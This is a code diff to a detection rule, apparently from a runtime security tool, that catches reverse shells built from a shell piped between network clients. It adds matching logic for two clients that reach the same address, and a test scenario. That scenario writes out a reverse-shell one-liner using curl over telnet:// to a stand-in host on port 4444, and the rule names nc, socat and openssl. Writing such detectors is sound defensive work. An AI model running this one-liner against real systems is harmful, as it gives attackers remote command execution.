@@ -23,7 +23,8 @@ export const reverseShellPipeline = defineRule({
   title: 'Shell in a pipeline with a network client',
   description:
     'Under one parent, at the same time, run a shell that reads its commands from its input and a client that carries both directions (nc, ' +
-    'telnet, socat, openssl): what the client receives are the commands. Where a named pipe was made just before, any client that connects will do.',
+    'telnet, socat, openssl): what the client receives are the commands. Where a named pipe was made just before, or one client brings the commands and another takes the answers to the same address, any client ' +
+    'that connects will do.',
   level: 'critical',
   stage: 'shell',
   attack: ['T1059.004', 'T1095'],
@@ -64,6 +65,19 @@ export const reverseShellPipeline = defineRule({
       1200.02     sh
       1200.03     /tmp/.x host 4444
       1200.1        > tcp 10.9.9.9:4444
+    `,
+    ),
+    scenario(
+      'one download brings the commands, another takes the answers',
+      `
+      container web
+      0       node server.js
+      1200      sh -c "curl -Ns telnet://host | sh | curl -Ns telnet://host"
+      1200.01     curl -Ns telnet://host
+      1200.1        > tcp 203.0.113.9:4444
+      1200.01     sh
+      1200.01     curl -Ns telnet://host
+      1200.1        > tcp 203.0.113.9:4444
     `,
     ),
     scenario(
@@ -122,7 +136,10 @@ function findPartner(view: DetectionCase, shell: ShellStart, window: number): Pa
   const partners = near
     .filter((sibling) => shellKind(sibling) === undefined && overlap(sibling, shell.process))
     .map((client) => ({ client, contact: contactsOf(view, client)[0] }))
-    .filter(({ client, contact }) => isTwoWayClient(programName(client)) || (contact !== undefined && fifo !== undefined));
+    .filter(({ client, contact }, _, all) => {
+      const twins = all.filter((other) => contact !== undefined && other.contact?.connection.remote?.ip === contact.connection.remote?.ip);
+      return isTwoWayClient(programName(client)) || (contact !== undefined && fifo !== undefined) || twins.length > 1;
+    });
   const best = partners.find(({ contact }) => contact !== undefined) ?? partners[0];
   if (best === undefined) return undefined;
   return { client: best.client, ...(best.contact === undefined ? {} : { contact: best.contact }), ...(fifo === undefined ? {} : { fifo }) };
